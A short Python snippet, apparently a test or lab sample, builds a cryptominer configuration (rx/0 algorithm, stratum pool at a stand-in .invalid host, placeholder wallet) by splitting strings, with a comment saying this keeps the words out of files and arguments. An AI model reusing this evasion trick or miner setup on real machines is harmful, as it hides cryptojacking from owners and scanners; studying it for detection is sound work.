from wait import rest

# Joined here, so that the words are in memory and in no file or argument.
pool = "".join(["stratum", "+tcp", "://", "pool.lab", ".invalid:", "3333"])
config = '{"algo":"rx/0","pools":[{"url":"%s","user":"%s"}],"donate-level":1}' % (pool, "4" + "A" * 10 + "b3" * 42)
rest(f"held {len(config)}")
